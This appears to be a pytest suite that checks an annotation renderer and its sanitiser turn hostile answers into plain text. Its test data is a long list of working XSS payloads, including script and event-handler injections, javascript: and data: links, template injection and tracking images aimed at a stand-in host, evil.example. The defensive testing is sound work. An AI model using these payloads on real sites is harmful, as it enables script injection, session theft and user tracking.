"""What a hostile answer tries, by family; each comes out as words, never as markup."""

import pytest
from rendering_allowed import Page, checked

from annotations.rendering import render, render_plain
from annotations.rendering.sanitising import sanitise

TAGS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x0ctype="text/javascript">alert(1)</script>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif?rater=1">
<IMG \"\"\"><SCRIPT>alert("XSS")</SCRIPT>">
<body onload=alert(1)>
<svg onload=alert(1)>
<svg><script>alert&#40;1&#41</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">click</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="//evil.example/x.swf">
<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(https://evil.example/p.png)">x</div>
<p id="verdict" class="unseen">x</p>
<a href="javascript:alert(1)" onclick=alert(1)>x</a>
<a href="https://ok.example" target="_self" rel="opener">x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>never closed
<textarea></textarea><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo 1 ?>
<!DOCTYPE html>
<x onclick=alert(1) style=y>custom</x>
</p></div></main><script>alert(1)</script>
<button formaction=javascript:alert(1) hx-get="/verdict" hx-trigger="load">x</button>
<p><<img src=x onerror=alert(1)//<</p>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
{{ constructor.constructor('alert(1)')() }}
{% include "admin.html" %} {{ request.user }} {{% load static %}}
${alert(1)} #{7*7} <%= 7*7 %>
""".strip().split("\n")

LINKS = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#x09;script:alert(1))
[x](&#106;avascript:alert(1))
[x](<java\tscript:alert(1)>)
[x]( javascript:alert(1) "title")
[x](\x01javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/png;base64,AAAA)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](ftp://evil.example)
[x](//evil.example/protocol-relative)
[x](/accounts/logout)
[x](#verdict)
[x](?next=evil)
[x](../../admin)
[x](https:/\\evil.example)
[x](https:evil.example)
[x](https:///)
[x](tel:+1900)
[x](mailto:)
<javascript:alert(1)>
<data:text/html,x>
[ref]

[ref]: javascript:alert(1)
[x](https://ok.example/" onmouseover="alert(1))
[x](https://ok.example/'onmouseover='alert(1)')
[x](https://ok.example "a\\" onclick=\\"alert(1)")
[x](https://ok.example '"><script>alert(1)</script>')
[![x](https://evil.example/p.png)](javascript:alert(1))
[<img src=x onerror=alert(1)>](https://ok.example)
""".strip().split("\n")

IMAGES = """
![alt](https://evil.example/pixel.gif)
![alt](javascript:alert(1))
![alt](data:image/svg+xml;base64,PHN2Zz4=)
![" onerror="alert(1)](x)
![<script>alert(1)</script>](x)
![a ![b](c) d](e "f")
![](https://evil.example/pixel.gif)
""".strip().split("\n")

CODE = [
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\ncode\n```",
    '```" onclick="alert(1)\ncode\n```',
    '```python"><img src=x onerror=alert(1)>\ncode\n```',
    "~~~js\n</code></pre><script>alert(1)</script>\n~~~",
    "    <script>indented</script>",
    "`<script>alert(1)</script>`",
    "`` ` `` <b>`</b>",
]

MATHEMATICS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\htmlClass{x}{<script>alert(1)</script>}$$",
    "\\[\n<img src=x onerror=alert(1)>\n\\]",
    r"\(</span><script>alert(1)</script>\)",
]

CORPUS = [*TAGS, *LINKS, *IMAGES, *CODE, *MATHEMATICS]
WRAPPERS = ("{}", "# {}", "> {}", "- {}", "1. {}", "**{}**", "~~{}~~", "| a |\n|---|\n| {} |", "$$ {} $$")


@pytest.mark.parametrize("attack", CORPUS)
def test_an_attack_comes_out_as_words(attack: str) -> None:
    for wrapper in WRAPPERS:
        checked(render(wrapper.format(attack) if "{}" in wrapper else attack))


@pytest.mark.parametrize("attack", [*TAGS, *LINKS, *IMAGES])
def test_the_last_step_alone_would_stop_it(attack: str) -> None:
    """As if everything before the sanitiser had let it through as HTML."""
    page = Page(sanitise(attack))

    assert page.wrong == []
    for link in page.links:
        assert str(link.get("href", "https://")).startswith(("http://", "https://", "mailto:"))
        assert (link["target"], link["referrerpolicy"]) == ("_blank", "no-referrer")
    assert "unseen" not in page.classes or "unseen" in attack


@pytest.mark.parametrize("attack", CORPUS)
def test_the_raw_text_is_the_source(attack: str) -> None:
    assert checked(render_plain(attack)).tags[0] == "div"


def test_raw_html_is_shown_as_it_was_written() -> None:
    page = checked(render("Say <b>hi</b> & <script>alert(1)</script>"))

    assert page.text.strip() == "Say <b>hi</b> & <script>alert(1)</script>"
    assert page.tags == ["p"]


@pytest.mark.parametrize("image", IMAGES)
def test_no_image_is_fetched(image: str) -> None:
    page = checked(render(image))

    assert "img" not in page.tags
    assert "image" in page.classes
    assert not page.links
    assert "evil.example" not in render(image)


def test_the_whole_corpus_at_once() -> None:
    checked(render("\n\n".join(CORPUS)))
    checked(render("\n".join(CORPUS)))


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "//evil.example",
        "/admin",
        "#x",
        "ftp://x.example",
        "data:text/html,x",
        "",
        "https:x",
    ],
)
def test_a_target_that_is_not_followed_leaves_its_words(target: str) -> None:
    page = checked(render(f"see [the words]({target}) here"))

    assert not page.links
    assert page.text.strip() == "see the words here"
    assert "unlinked" in page.classes


@pytest.mark.parametrize(
    "target", ["https://ok.example/a?b=1&c=2#d", "HTTP://ok.example", "mailto:a@ok.example"]
)
def test_a_followed_link_tells_nobody_where_from(target: str) -> None:
    page = checked(render(f"[words]({target})"))

    assert [link["href"] for link in page.links] == [target]


def test_a_link_title_is_not_shown() -> None:
    assert "secret" not in render('[words](https://ok.example "secret")')
